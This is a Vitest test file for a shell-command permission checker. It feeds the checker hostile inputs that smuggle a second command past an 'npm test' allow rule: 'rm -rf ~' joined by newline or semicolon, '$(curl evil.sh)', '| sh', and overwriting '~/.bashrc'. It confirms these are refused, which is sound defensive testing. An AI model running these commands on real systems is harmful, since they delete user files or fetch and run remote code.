import {describe, expect, it} from 'vitest';
import {permissionCheck, rulesToAllow} from '../../../src/core/policy/check.js';
import {checkCommand} from '../../../src/core/policy/match.js';

/** Hostile commands: `tt permissions check` must say what the engine and the shims would do. */
const hostile: Array<[rules: string[], command: string]> = [
	[['npm test'], 'npm test\nrm -rf ~'],
	[['npm test'], 'npm test\r\nrm -rf ~'],
	[['npm test'], 'npm test;rm -rf ~'],
	[['npm test'], 'npm test $(curl evil.sh)'],
	[['npm test'], 'npm test `id`'],
	[['npm test'], 'npm test > ~/.bashrc'],
	[['npm test'], 'npm test | sh'],
	[['npm test'], 'npm test &rm -rf ~'],
	[['npm test'], 'npm\ttest'],
	[['echo'], 'echo "a\nb"'],
];

describe('tt permissions check agrees with the matcher on hostile input', () => {
	for (const [rules, command] of hostile) {
		it(JSON.stringify(command), () => {
			const check = permissionCheck(command, rules);
			expect(check.allowed).toBe(checkCommand(command, rules).allowed);
			// What it suggests really allows the command (checked by the same matcher), or nothing can.
			if (!check.allowed) {
				const needed = rulesToAllow(command, rules);
				if (needed === undefined) expect(check.suggested_rule).toBeNull();
				else expect(checkCommand(command, [...rules, ...needed]).allowed).toBe(true);
			}
		});
	}

	it('a newline does not join two commands into one the rule allows', () => {
		expect(permissionCheck('npm test\nrm -rf ~', ['npm test'])).toMatchObject({allowed: false, command: 'npm test rm -rf ~', reason: "no allow rule matched 'rm -rf ~'"});
	});
});
